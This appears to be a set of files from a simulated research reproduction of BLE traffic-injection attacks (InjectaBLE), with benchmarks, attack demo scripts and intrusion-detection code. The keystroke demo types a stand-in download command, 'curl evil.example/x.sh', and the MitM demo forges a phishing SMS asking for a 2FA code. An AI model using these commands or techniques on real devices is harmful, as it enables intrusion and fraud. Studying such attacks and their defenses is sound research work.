    monkeypatch.setenv(fastforward.ENGINE_ENV_VAR, fastforward.ENGINE_FAST)
    fastforward.reset_fast_forward_count()
    start = time.perf_counter()
    fast = execute_trials(trials, jobs=1, cache=None)
    fast_s = time.perf_counter() - start
    fast_forwarded = fastforward.events_fast_forwarded()

    start = time.perf_counter()
    fast_parallel = execute_trials(trials, jobs=PERF_JOBS, cache=None)
    fast_parallel_s = time.perf_counter() - start

    benchmark.pedantic(lambda: None, rounds=1, iterations=1)

    assert all(r.success for r in serial)
    # The contract the whole runner rests on: job count never changes
    # results, field for field (reports, records, verdicts included).
    assert parallel == serial
    # The contract the fast engine rests on: the engine never changes
    # results either — same fields, same bits, at any jobs count.
    assert fast == serial
    assert fast_parallel == serial
    assert fast_forwarded > 0, "fast engine never engaged on the workload"

    events_per_sec = _bench_event_queue()
    speedup = serial_s / parallel_s if parallel_s > 0 else float("inf")
    engine_speedup = serial_s / fast_s if fast_s > 0 else float("inf")
    cpus = os.cpu_count() or 1
    utc = datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ")
    reference_record = {
        "utc": utc,
        "engine": "reference",
        "cpu_count": cpus,
        "n_trials": len(trials),
        "jobs": PERF_JOBS,
        "serial_s": round(serial_s, 3),
        "parallel_s": round(parallel_s, 3),
        "speedup": round(speedup, 3),
        "trials_per_sec_serial": round(len(trials) / serial_s, 3),
        "trials_per_sec_parallel": round(len(trials) / parallel_s, 3),
        "queue_events_per_sec": round(events_per_sec),
        "events_fast_forwarded": 0,
    }
    fast_record = {
        "utc": utc,
        "engine": "fast",
        "cpu_count": cpus,
        "n_trials": len(trials),
        "jobs": PERF_JOBS,
        "serial_s": round(fast_s, 3),
        "parallel_s": round(fast_parallel_s, 3),
        "speedup": round(fast_s / fast_parallel_s, 3)
        if fast_parallel_s > 0 else float("inf"),
        "engine_speedup": round(engine_speedup, 3),
        "trials_per_sec_serial": round(len(trials) / fast_s, 3),
        "trials_per_sec_parallel": round(len(trials) / fast_parallel_s, 3),
        "queue_events_per_sec": round(events_per_sec),
        "events_fast_forwarded": fast_forwarded,
    }
    _append_trajectory(reference_record, fast_record)

    summary = "\n".join(
        ["PERF-1 — trial runner throughput (reference engine)"]
        + [f"  {key:>24}: {value}" for key, value in
           reference_record.items()]
        + ["PERF-1 — trial runner throughput (fast engine)"]
        + [f"  {key:>24}: {value}" for key, value in fast_record.items()]
    )
    print("\n" + summary)
    (results_dir / "perf_runner.txt").write_text(summary + "\n")

    assert engine_speedup >= MIN_ENGINE_SPEEDUP, (
        f"expected the fast engine >= {MIN_ENGINE_SPEEDUP}x over the "
        f"reference serially, got {engine_speedup:.2f}x"
    )
    if cpus >= PERF_JOBS:
        assert speedup >= 3.0, (
            f"expected >=3x speedup at {PERF_JOBS} workers on {cpus} cores, "
            f"got {speedup:.2f}x"
        )
