"""E3 — Figure 9, "Distance" panel (paper §VII-C).

Lightbulb and smartphone (hop interval 36) 2 m apart; attacker at the six
positions A-F of paper Fig. 8 (1 to 10 m from the Peripheral), 25
connections per position.

Asserted shape (paper):
  * every position yields a successful injection for every connection —
    including 10 m away while the legitimate Master sits at 2 m;
  * attempt variance grows with distance.
"""

from __future__ import annotations

import pytest

from benchmarks.conftest import N_CONNECTIONS, N_JOBS, publish
from repro.analysis.reporting import render_distribution_table
from repro.analysis.stats import box_stats
from repro.experiments.common import attempts_of, success_rate
from repro.experiments.distance import DISTANCE_POSITIONS, run_experiment_distance


@pytest.mark.benchmark(group="fig9")
def test_fig9_distance(benchmark, results_dir, trial_cache):
    results = benchmark.pedantic(
        lambda: run_experiment_distance(base_seed=3,
                                        n_connections=N_CONNECTIONS,
                                        jobs=N_JOBS, cache=trial_cache),
        rounds=1, iterations=1,
    )
    samples = {label: attempts_of(results[label])
               for label in DISTANCE_POSITIONS}
    table = render_distribution_table(
        "Figure 9 / Experiment 3 — injection attempts vs attacker distance",
        "position", samples)
    publish(results_dir, "fig9_distance", table)

    for label in DISTANCE_POSITIONS:
        assert success_rate(results[label]) == 1.0, f"{label} failed"
    near = box_stats(samples["A (1 m)"])
    far = box_stats(samples["F (10 m)"])
    assert far.variance > near.variance
    assert far.mean >= near.mean
