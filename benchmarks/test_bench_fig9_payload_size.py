"""E2 — Figure 9, "Payload size" panel (paper §VII-B).

PDU sizes 4/9/14/16 bytes at hop interval 75, 25 connections each; every
size maps to a frame with an observable effect on the target device.

Asserted shape (paper):
  * every connection is injectable at every size;
  * medians stay at or below ~3 attempts;
  * reliability increases as the payload shrinks.
"""

from __future__ import annotations

import pytest

from benchmarks.conftest import N_CONNECTIONS, N_JOBS, publish
from repro.analysis.reporting import render_distribution_table
from repro.analysis.stats import box_stats
from repro.experiments.common import attempts_of, success_rate
from repro.experiments.payload_size import PAYLOAD_SIZES, run_experiment_payload_size


@pytest.mark.benchmark(group="fig9")
def test_fig9_payload_size(benchmark, results_dir, trial_cache):
    results = benchmark.pedantic(
        lambda: run_experiment_payload_size(base_seed=2,
                                            n_connections=N_CONNECTIONS,
                                            jobs=N_JOBS, cache=trial_cache),
        rounds=1, iterations=1,
    )
    samples = {size: attempts_of(results[size]) for size in PAYLOAD_SIZES}
    table = render_distribution_table(
        "Figure 9 / Experiment 2 — injection attempts vs payload size",
        "PDU size (bytes)", samples)
    publish(results_dir, "fig9_payload_size", table)

    for size in PAYLOAD_SIZES:
        assert success_rate(results[size]) == 1.0, f"size {size} failed"
        assert box_stats(samples[size]).median <= 3.0
    # Mean attempts do not decrease when the payload grows.
    means = [box_stats(samples[size]).mean for size in PAYLOAD_SIZES]
    assert means[0] <= means[-1] + 0.5
