#!/usr/bin/env python3
"""Scenario D demo: MitM an established phone↔smartwatch connection.

The attacker injects a forged ``LL_CONNECTION_UPDATE_IND``; at its instant
the watch re-times onto the attacker's schedule while the phone keeps the
old one.  The attacker relays traffic between them and rewrites SMS
content on the fly — the paper's §VI-C demonstration.

Run:
    python examples/mitm_sms_rewrite.py [seed]
"""

from __future__ import annotations

import sys
from typing import Optional

from repro import Attacker, Medium, Simulator, Smartphone, Smartwatch, Topology
from repro.core.scenarios import MitmScenario
from repro.devices.smartwatch import Sms, UUID_WATCH_SMS
from repro.host.att.pdus import WriteReq, decode_att_pdu
from repro.host.l2cap import CID_ATT, l2cap_decode, l2cap_encode

FORGED_TEXT = "URGENT: send your 2FA code to +1-555-ATTACKER"


def rewrite_sms(l2cap_frame: bytes) -> Optional[bytes]:
    """Mutation hook: replace the text of any SMS write going to the watch."""
    try:
        cid, att = l2cap_decode(l2cap_frame)
        if cid != CID_ATT:
            return l2cap_frame
        pdu = decode_att_pdu(att)
        if not isinstance(pdu, WriteReq):
            return l2cap_frame
        sms = Sms.from_bytes(pdu.value)
        forged = Sms(sms.sender, FORGED_TEXT)
        return l2cap_encode(
            CID_ATT, WriteReq(pdu.handle, forged.to_bytes()).to_bytes()
        )
    except Exception:
        return l2cap_frame


def main(seed: int = 41) -> int:
    sim = Simulator(seed=seed)
    topology = Topology.equilateral_triangle(("watch", "phone", "attacker"),
                                             edge_m=2.0)
    medium = Medium(sim, topology)

    watch = Smartwatch(sim, medium, "watch")
    watch.ll.readvertise_on_disconnect = False
    phone = Smartphone(sim, medium, "phone", interval=36)
    attacker = Attacker(sim, medium, "attacker")

    attacker.sniff_new_connections()
    watch.power_on()
    phone.connect_to(watch.address)
    sim.run(until_us=1_200_000)
    if not attacker.synchronized:
        print("attacker failed to synchronise")
        return 1

    results = []
    scenario = MitmScenario(attacker, master_to_slave=rewrite_sms)
    scenario.run(on_done=results.append)
    sim.run(until_us=15_000_000)
    result = results[0]
    print(f"forged update injected after {result.report.attempts} attempt(s); "
          f"MitM running: {result.success}")

    sms_handle = watch.gatt.find_characteristic(UUID_WATCH_SMS).value_handle
    phone.send_sms_to_watch(sms_handle, "Mom", "dinner at 8?")
    sim.run(until_us=25_000_000)

    print(f"phone believes it is connected: {phone.is_connected}")
    print(f"watch believes it is connected: {watch.ll.is_connected}")
    for sms in watch.inbox:
        print(f"watch displays: from {sms.sender!r}: {sms.text!r}")
    ok = bool(watch.inbox) and watch.inbox[-1].text == FORGED_TEXT
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 41))
