#!/usr/bin/env python3
"""Quickstart: inject a 'lights off' Write Request into a live connection.

Builds the paper's experiment-1 world — a lightbulb, a smartphone Central
and an attacker on the vertices of a 2 m equilateral triangle — waits for
the connection, then injects a forged ATT Write Request that turns the
bulb off while both victims keep believing the connection is healthy.

Run:
    python examples/quickstart.py [seed]
"""

from __future__ import annotations

import sys

from repro import Attacker, Lightbulb, Medium, Simulator, Smartphone, Topology
from repro.core.scenarios import IllegitimateUseScenario
from repro.devices.lightbulb import UUID_BULB_CONTROL


def main(seed: int = 7) -> int:
    sim = Simulator(seed=seed)
    topology = Topology.equilateral_triangle(("bulb", "phone", "attacker"),
                                             edge_m=2.0)
    medium = Medium(sim, topology)

    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=75)
    attacker = Attacker(sim, medium, "attacker")

    # The attacker camps on an advertising channel *before* the connection
    # exists, captures CONNECT_REQ, and follows the hop sequence.
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_500_000)

    if not attacker.synchronized:
        print("attacker failed to synchronise")
        return 1
    print(f"[{sim.now/1e6:.3f}s] attacker synchronised: {attacker.connection}")
    print(f"bulb before attack: {bulb.describe()}")

    handle = bulb.gatt.find_characteristic(UUID_BULB_CONTROL).value_handle
    scenario = IllegitimateUseScenario(attacker)
    results = []
    scenario.inject_write(handle, Lightbulb.power_payload(False, pad_to=5),
                          on_done=results.append)
    sim.run(until_us=60_000_000)

    result = results[0]
    print(f"injection outcome: {result.report.outcome.value} "
          f"after {result.report.attempts} attempt(s)")
    print(f"bulb after attack:  {bulb.describe()}")
    print(f"victims still connected: phone={phone.is_connected} "
          f"bulb={bulb.ll.is_connected}")
    return 0 if result.success and not bulb.is_on else 1


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 7))
