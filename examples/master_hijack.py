#!/usr/bin/env python3
"""Scenario C demo: steal the Master role with one forged connection update.

The attacker injects a ``LL_CONNECTION_UPDATE_IND``; at the instant the
lightbulb re-times onto the attacker's window and stops hearing the real
phone, which drops off via supervision timeout.  The attacker then drives
the bulb — same capability as Scenario A, but persistent.

Run:
    python examples/master_hijack.py [seed]
"""

from __future__ import annotations

import sys

from repro import Attacker, Lightbulb, Medium, Simulator, Smartphone, Topology
from repro.core.scenarios import MasterHijackScenario
from repro.devices.lightbulb import UUID_BULB_CONTROL
from repro.host.att.pdus import WriteReq


def main(seed: int = 31) -> int:
    sim = Simulator(seed=seed)
    topology = Topology.equilateral_triangle(("bulb", "phone", "attacker"),
                                             edge_m=2.0)
    medium = Medium(sim, topology)

    bulb = Lightbulb(sim, medium, "bulb")
    bulb.ll.readvertise_on_disconnect = False
    phone = Smartphone(sim, medium, "phone", interval=36)
    attacker = Attacker(sim, medium, "attacker")

    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_200_000)
    if not attacker.synchronized:
        print("attacker failed to synchronise")
        return 1

    phone_disconnects: list[str] = []
    phone.ll.on_disconnected = phone_disconnects.append

    results = []
    scenario = MasterHijackScenario(attacker, instant_delta=40)
    scenario.run(on_done=results.append)
    sim.run(until_us=15_000_000)
    result = results[0]
    print(f"update injected after {result.report.attempts} attempt(s); "
          f"takeover running: {result.success}")

    # Run long enough for the legitimate Master's supervision timeout.
    sim.run(until_us=25_000_000)
    print(f"legitimate phone dropped: {phone_disconnects}")
    print(f"bulb still 'connected' (to the attacker): {bulb.ll.is_connected}")

    # Drive the hijacked device.
    handle = bulb.gatt.find_characteristic(UUID_BULB_CONTROL).value_handle
    result.fake_master.queue_att(
        WriteReq(handle, Lightbulb.color_payload(255, 0, 0)).to_bytes())
    result.fake_master.queue_att(
        WriteReq(handle, Lightbulb.brightness_payload(10)).to_bytes())
    sim.run(until_us=30_000_000)
    print(f"bulb after attacker commands: {bulb.describe()}")
    hijacked = (result.success and bool(phone_disconnects)
                and bulb.color == (255, 0, 0) and bulb.brightness == 10)
    return 0 if hijacked else 1


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 31))
