#!/usr/bin/env python3
"""Scenario B demo: terminate the real Slave and impersonate it.

A smartphone is connected to a keyfob.  The attacker injects a single
``LL_TERMINATE_IND``: the keyfob believes the phone hung up and leaves,
while the phone keeps polling — and from then on talks to the attacker's
fake Slave, whose Device Name characteristic reads "Hacked" (the paper's
§VI-B demonstration).

Run:
    python examples/slave_hijack.py [seed]
"""

from __future__ import annotations

import sys

from repro import Attacker, Keyfob, Medium, Simulator, Smartphone, Topology
from repro.core.scenarios import SlaveHijackScenario
from repro.core.scenarios.scenario_b import hacked_gatt_server
from repro.host.att.pdus import ReadByTypeRsp
from repro.host.gatt.uuids import UUID_DEVICE_NAME


def main(seed: int = 3) -> int:
    sim = Simulator(seed=seed)
    topology = Topology.equilateral_triangle(("keyfob", "phone", "attacker"),
                                             edge_m=2.0)
    medium = Medium(sim, topology)

    keyfob = Keyfob(sim, medium, "keyfob")
    keyfob.ll.readvertise_on_disconnect = False  # keep the demo legible
    phone = Smartphone(sim, medium, "phone", interval=36)
    attacker = Attacker(sim, medium, "attacker")

    attacker.sniff_new_connections()
    keyfob.power_on()
    phone.connect_to(keyfob.address)
    sim.run(until_us=1_200_000)
    if not attacker.synchronized:
        print("attacker failed to synchronise")
        return 1

    results = []
    scenario = SlaveHijackScenario(attacker,
                                   gatt_server=hacked_gatt_server("Hacked"))
    scenario.run(on_done=results.append)
    sim.run(until_us=20_000_000)

    result = results[0]
    print(f"terminate injected after {result.report.attempts} attempt(s)")
    print(f"real keyfob connected: {keyfob.ll.is_connected}")
    print(f"phone still connected: {phone.is_connected} "
          f"(to the attacker, unknowingly)")

    # The phone reads the Device Name — served by the fake Slave now.
    names: list[bytes] = []

    def on_name(pdu) -> None:
        if isinstance(pdu, ReadByTypeRsp):
            names.append(pdu.records[0][1])

    phone.host.att.read_by_type(UUID_DEVICE_NAME, on_name)
    sim.run(until_us=25_000_000)
    print(f"device name as read by the phone: "
          f"{names[0].decode() if names else '<no answer>'}")
    return 0 if names and names[0] == b"Hacked" else 1


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 3))
