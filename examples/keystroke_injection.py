#!/usr/bin/env python3
"""Scenario E demo: the paper's §IX future work, implemented.

After hijacking the Slave role (Scenario B), the attacker announces an
ATT structure change and exposes a HID-over-GATT keyboard profile; the
unsuspecting Central then receives attacker-chosen keystrokes as input
reports.

Run:
    python examples/keystroke_injection.py [seed]
"""

from __future__ import annotations

import sys

from repro import Attacker, Keyfob, Medium, Simulator, Smartphone, Topology
from repro.core.scenarios import KeystrokeInjectionScenario
from repro.core.scenarios.scenario_e import decode_reports

PAYLOAD = "curl evil.example/x.sh\n"


def main(seed: int = 66) -> int:
    sim = Simulator(seed=seed)
    topology = Topology.equilateral_triangle(("keyfob", "phone", "attacker"),
                                             edge_m=2.0)
    medium = Medium(sim, topology)

    keyfob = Keyfob(sim, medium, "keyfob")
    keyfob.ll.readvertise_on_disconnect = False
    phone = Smartphone(sim, medium, "phone", interval=36)
    attacker = Attacker(sim, medium, "attacker")

    attacker.sniff_new_connections()
    keyfob.power_on()
    phone.connect_to(keyfob.address)
    sim.run(until_us=1_200_000)
    if not attacker.synchronized:
        print("attacker failed to synchronise")
        return 1

    received: list[bytes] = []
    phone.gatt.on_notification = lambda handle, value: received.append(value)

    results = []
    scenario = KeystrokeInjectionScenario(attacker, device_name="Keyboard")
    scenario.run(on_done=results.append)
    sim.run(until_us=10_000_000)
    result = results[0]
    print(f"hijack: {result.hijack.report.outcome.value} after "
          f"{result.hijack.report.attempts} attempt(s); "
          f"malicious keyboard live: {result.success}")
    if not result.success:
        return 1

    scenario.type_text(PAYLOAD)
    sim.run(until_us=25_000_000)
    typed = decode_reports(received)
    print(f"keystrokes received by the phone: {typed!r}")
    print(f"phone still believes it is connected to the keyfob: "
          f"{phone.is_connected}")
    return 0 if typed == PAYLOAD else 1


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 66))
