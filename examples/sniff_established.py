#!/usr/bin/env python3
"""Recover the parameters of an *already established* connection.

The attacker arrives late: the CONNECT_REQ happened before it started
listening, so nothing is known — not even the access address.  Following
Ryan (2013) / Cauquil (2017) and the paper's §V-C, the sniffer:

1. camps on a data channel and counts candidate access addresses;
2. recovers CRCInit by running the CRC-24 LFSR backwards;
3. measures the hop interval from successive visits to the channel;
4. derives the hop increment from the timing between two channels;
5. follows the connection and (to prove synchronisation) injects a frame.

Run:
    python examples/sniff_established.py [seed]
"""

from __future__ import annotations

import sys

from repro import Attacker, Lightbulb, Medium, Simulator, Smartphone, Topology
from repro.core.scenarios import IllegitimateUseScenario
from repro.devices.lightbulb import UUID_BULB_CONTROL


def main(seed: int = 9) -> int:
    sim = Simulator(seed=seed)
    topology = Topology.equilateral_triangle(("bulb", "phone", "attacker"),
                                             edge_m=2.0)
    medium = Medium(sim, topology)

    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=36)
    attacker = Attacker(sim, medium, "attacker")

    # Connection established with the attacker's radio OFF.
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=2_000_000)
    if not phone.is_connected:
        print("victims failed to connect")
        return 1
    true_params = phone.ll.conn.params
    print(f"ground truth: AA={true_params.access_address:#010x} "
          f"crc_init={true_params.crc_init:#08x} "
          f"interval={true_params.interval} hop={true_params.hop_increment}")

    # Late-arriving attacker: full parameter recovery.
    attacker.recover_established(probe_channel=0)
    sim.run(until_us=60_000_000)
    conn = attacker.connection
    if conn is None or not attacker.synchronized:
        print("recovery failed")
        return 1
    print(f"recovered:    AA={conn.params.access_address:#010x} "
          f"crc_init={conn.params.crc_init:#08x} "
          f"interval={conn.params.interval} hop={conn.params.hop_increment}")
    exact = (
        conn.params.access_address == true_params.access_address
        and conn.params.crc_init == true_params.crc_init
        and conn.params.interval == true_params.interval
        and conn.params.hop_increment == true_params.hop_increment
    )
    print(f"exact match: {exact}")

    # Prove synchronisation end to end: inject through the recovered state.
    handle = bulb.gatt.find_characteristic(UUID_BULB_CONTROL).value_handle
    results = []
    scenario = IllegitimateUseScenario(attacker)
    scenario.inject_write(handle, Lightbulb.power_payload(False, pad_to=5),
                          on_done=results.append)
    sim.run(until_us=120_000_000)
    result = results[0] if results else None
    success = bool(result and result.success)
    print(f"injection through recovered parameters: "
          f"{'success' if success else 'failed'} "
          f"({result.report.attempts if result else 0} attempts); "
          f"bulb is now {'off' if not bulb.is_on else 'on'}")
    return 0 if exact and success else 1


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 9))
