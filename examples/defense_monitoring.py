#!/usr/bin/env python3
"""Countermeasures demo (paper §VIII): encryption and a link-layer IDS.

Part 1 — encryption: the phone pairs (Just Works legacy pairing) and turns
on AES-CCM link encryption.  The attacker still wins the timing race, but
its forged plaintext fails the MIC check: no feature triggers, and the
best it achieves is denial of service.

Part 2 — IDS: a passive wideband monitor watches the same attack against
an unencrypted connection and raises the paper's "double frame" /
anchor-anomaly signatures.

Run:
    python examples/defense_monitoring.py [seed]
"""

from __future__ import annotations

import sys

from repro import Attacker, Lightbulb, Medium, Simulator, Smartphone, Topology
from repro.core.injection import InjectionConfig
from repro.core.scenarios import IllegitimateUseScenario
from repro.defense.ids import LinkLayerIds
from repro.devices.lightbulb import UUID_BULB_CONTROL


def build_world(seed: int, with_ids: bool):
    sim = Simulator(seed=seed)
    topology = Topology.equilateral_triangle(("bulb", "phone", "attacker"),
                                             edge_m=2.0)
    medium = Medium(sim, topology)
    ids = LinkLayerIds(sim, medium) if with_ids else None
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=75)
    attacker = Attacker(sim, medium, "attacker",
                        injection_config=InjectionConfig(max_attempts=40))
    return sim, bulb, phone, attacker, ids


def main(seed: int = 13) -> int:
    # --- Part 1: encryption limits the attack to DoS --------------------
    sim, bulb, phone, attacker, _ = build_world(seed, with_ids=False)
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_500_000)
    phone.host.pair(encrypt=True)
    sim.run(until_us=3_000_000)
    print(f"link encrypted: phone={phone.ll.encryption is not None} "
          f"bulb={bulb.ll.encryption is not None}")

    handle = bulb.gatt.find_characteristic(UUID_BULB_CONTROL).value_handle
    results = []
    IllegitimateUseScenario(attacker).inject_write(
        handle, Lightbulb.power_payload(False, pad_to=5),
        on_done=results.append)
    sim.run(until_us=60_000_000)
    report = results[0].report if results else None
    print(f"injection vs encrypted link: "
          f"{report.outcome.value if report else 'n/a'} "
          f"({report.attempts if report else 0} attempts)")
    print(f"bulb state untouched: {bulb.is_on} (still on)")
    print(f"residual impact is DoS: bulb connection alive = "
          f"{bulb.ll.is_connected}")

    # --- Part 2: the IDS sees the injection -----------------------------
    sim, bulb, phone, attacker, ids = build_world(seed + 1, with_ids=True)
    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_500_000)
    handle = bulb.gatt.find_characteristic(UUID_BULB_CONTROL).value_handle
    results = []
    IllegitimateUseScenario(attacker).inject_write(
        handle, Lightbulb.power_payload(False, pad_to=5),
        on_done=results.append)
    sim.run(until_us=60_000_000)
    assert ids is not None
    print(f"\nunencrypted attack succeeded: "
          f"{results[0].success if results else False}")
    print(f"IDS detected injection: {ids.detected_injection()}")
    for alert in ids.alerts[:5]:
        print(f"  [{alert.time_us/1e6:.3f}s] {alert.kind}: {alert.detail}")
    return 0


if __name__ == "__main__":
    sys.exit(main(int(sys.argv[1]) if len(sys.argv) > 1 else 13))
