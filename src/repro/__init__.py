"""InjectaBLE reproduction: BLE traffic injection into established connections.

A faithful, fully simulated reproduction of *InjectaBLE: Injecting
malicious traffic into established Bluetooth Low Energy connections*
(Cayre et al., DSN 2021), built on a µs-resolution discrete-event radio
simulator with drifting sleep clocks, path loss and a capture-effect
collision model.

Quickstart::

    from repro import (
        Attacker, Lightbulb, Medium, Simulator, Smartphone, Topology,
    )

    sim = Simulator(seed=1)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone")
    attacker = Attacker(sim, medium, "attacker")

    attacker.sniff_new_connections()
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_500_000)

    # forge and inject an ATT Write Request turning the bulb off ...

See ``examples/`` for complete scripts and ``benchmarks/`` for the
reproduction of every evaluation figure.
"""

from repro.core.attacker import Attacker
from repro.core.injection import InjectionConfig, InjectionOutcome, InjectionReport
from repro.core.scenarios import (
    IllegitimateUseScenario,
    MasterHijackScenario,
    MitmScenario,
    SlaveHijackScenario,
)
from repro.devices import Keyfob, Lightbulb, Smartphone, Smartwatch
from repro.ll.master import MasterLinkLayer
from repro.ll.pdu.address import BdAddress
from repro.ll.slave import SlaveLinkLayer
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology

__version__ = "1.0.0"

__all__ = [
    "Attacker",
    "BdAddress",
    "IllegitimateUseScenario",
    "InjectionConfig",
    "InjectionOutcome",
    "InjectionReport",
    "Keyfob",
    "Lightbulb",
    "MasterHijackScenario",
    "MasterLinkLayer",
    "Medium",
    "MitmScenario",
    "Simulator",
    "SlaveHijackScenario",
    "SlaveLinkLayer",
    "Smartphone",
    "Smartwatch",
    "Topology",
    "__version__",
]
