"""Countermeasures from paper §VIII.

Three mitigation families are reproduced:

1. **Window-widening reduction** — implemented as
   ``SlaveLinkLayer.widening_scale``; exercised by the ablation benchmark.
2. **Systematic link-layer encryption** — implemented by the SMP + LL
   encryption pipeline; limits InjectaBLE to denial of service.
3. **Passive intrusion detection** — :class:`~repro.defense.ids.LinkLayerIds`,
   a RadIoT-style wideband monitor that flags the injection's double-frame
   signature, anchor anomalies and jamming.
"""

from repro.defense.ids import IdsAlert, LinkLayerIds

__all__ = ["IdsAlert", "LinkLayerIds"]
