"""Countermeasures from paper §VIII, grown into a defense bench.

Three mitigation families are reproduced:

1. **Window-widening reduction** — implemented as
   ``SlaveLinkLayer.widening_scale``; exercised by the ablation benchmark.
2. **Systematic link-layer encryption** — implemented by the SMP + LL
   encryption pipeline; limits InjectaBLE to denial of service.
3. **Passive intrusion detection** — a pluggable detector framework:
   :class:`~repro.defense.bank.DetectorBank` taps the medium like a
   RadIoT-style wideband monitor and fans frames out to registered
   :class:`~repro.defense.api.Detector`s, which emit scored
   :class:`~repro.defense.api.Verdict` streams (see
   :mod:`repro.defense.detectors` for the built-ins and
   ``docs/DEFENSE.md`` for the handbook).
   :class:`~repro.defense.ids.LinkLayerIds` keeps the original
   boolean-alert interface as a wrapper over the bank.
"""

from repro.defense import detectors as _builtin_detectors  # noqa: F401
from repro.defense.api import (
    ALERT_SCORE,
    DETECTORS,
    Detector,
    DetectorDef,
    FrameView,
    Verdict,
    detector_names,
    get_detector,
    make_detectors,
    register_detector,
)
from repro.defense.bank import DetectorBank, verdict_stream_digest
from repro.defense.ids import IdsAlert, LinkLayerIds

__all__ = [
    "ALERT_SCORE",
    "DETECTORS",
    "Detector",
    "DetectorBank",
    "DetectorDef",
    "FrameView",
    "IdsAlert",
    "LinkLayerIds",
    "Verdict",
    "detector_names",
    "get_detector",
    "make_detectors",
    "register_detector",
    "verdict_stream_digest",
]
