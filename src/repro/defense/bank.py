"""The detector bank: one medium tap fanned out to every detector.

A :class:`DetectorBank` owns the wideband tap a real SDR monitor would
be, computes the per-frame bookkeeping every detector needs (gap-based
connection-event segmentation, overlap tracking — the
:class:`~repro.defense.api.FrameView`), dispatches each view to its
detectors and accumulates their scored verdict stream.

The stream is the bench's measurement: :meth:`summaries` folds it into
per-detector max scores (the ROC statistic), alert counts, first-alert
latency and a canonical SHA-256 digest that the differential tests
compare bit-for-bit across simulation engines and worker counts.
"""

from __future__ import annotations

import hashlib
from typing import Callable, Dict, List, Optional, Sequence, Union

from repro.defense.api import (
    ALERT_SCORE,
    Detector,
    FrameView,
    Verdict,
    get_detector,
    make_detectors,
)
from repro.ll.access_address import ADVERTISING_ACCESS_ADDRESS
from repro.phy.signal import RadioFrame
from repro.sim.interference import NOISE_ACCESS_ADDRESS
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator

#: Frames closer together than this on one AA belong to one event.
_EVENT_GAP_US = 2_000.0


def verdict_stream_digest(verdicts: Sequence[Verdict]) -> str:
    """Canonical SHA-256 of a verdict stream.

    Floats are rendered with ``repr`` (exact shortest round-trip), so
    two streams digest equal iff they are bit-identical — the property
    the engine/jobs differential tests assert.
    """
    hasher = hashlib.sha256()
    for v in verdicts:
        line = (f"{v.time_us!r}|{v.detector}|{v.score!r}|{v.kind}|"
                f"{v.access_address}|{v.detail}\n")
        hasher.update(line.encode("utf-8"))
    return hasher.hexdigest()


class DetectorBank:
    """Attach a set of detectors to a medium through one shared tap.

    Args:
        sim: owning simulator (time, metrics, trace).
        medium: the medium to tap (taps fire at every frame start, with
            the pristine frame — what a co-located monitor receives).
        detectors: detector registry names or ready instances; empty
            selects every registered detector.
    """

    def __init__(self, sim: Simulator, medium: Medium,
                 detectors: Sequence[Union[str, Detector]] = ()):
        self.sim = sim
        self.detectors: List[Detector] = []
        if detectors:
            for entry in detectors:
                if isinstance(entry, Detector):
                    self.detectors.append(entry)
                else:
                    self.detectors.append(get_detector(entry).factory())
        else:
            self.detectors = make_detectors()
        #: Every verdict emitted so far, in emission order.
        self.verdicts: List[Verdict] = []
        #: Optional subscriber called with each new verdict.
        self.on_verdict: Optional[Callable[[Verdict], None]] = None
        #: Optional subscriber called with each frame view (observers
        #: that want the shared bookkeeping without being detectors).
        self.on_view: Optional[Callable[[FrameView], None]] = None
        self._active: List[RadioFrame] = []
        self._event_state: Dict[int, tuple] = {}
        metrics = sim.metrics
        self._metrics = metrics
        self._m_frames = metrics.counter("defense.frames_seen")
        self._m_verdicts = {
            det.name: metrics.counter(f"defense.verdicts.{det.name}")
            for det in self.detectors
        }
        self._m_alerts = {
            det.name: metrics.counter(f"defense.alerts.{det.name}")
            for det in self.detectors
        }
        medium.add_tap(self._on_frame)

    # ------------------------------------------------------------------
    # Tap
    # ------------------------------------------------------------------

    def _on_frame(self, frame: RadioFrame) -> None:
        self._active = [f for f in self._active if f.end_us > frame.start_us]
        if frame.access_address == NOISE_ACCESS_ADDRESS:
            # Wideband interference: carrier energy a BLE monitor cannot
            # demodulate.  It stays visible to detectors as collision
            # overlap but never produces a decoded frame view of its own.
            self._active.append(frame)
            return
        view = self._view_for(frame)
        if not view.is_advertising and self._metrics.enabled:
            self._m_frames.inc()
        if self.on_view is not None:
            self.on_view(view)
        for detector in self.detectors:
            for verdict in detector.on_frame(view):
                self._record(verdict)
        self._active.append(frame)

    def _view_for(self, frame: RadioFrame) -> FrameView:
        aa = frame.access_address
        if aa == ADVERTISING_ACCESS_ADDRESS:
            return FrameView(frame=frame, is_advertising=True,
                             new_event=True, index_in_event=0, gap_us=None,
                             overlaps=tuple(self._active),
                             known_connection=False)
        state = self._event_state.get(aa)
        if state is None:
            gap: Optional[float] = None
            new_event, index, known = True, 0, False
        else:
            gap = frame.start_us - state[0]
            new_event = gap > _EVENT_GAP_US
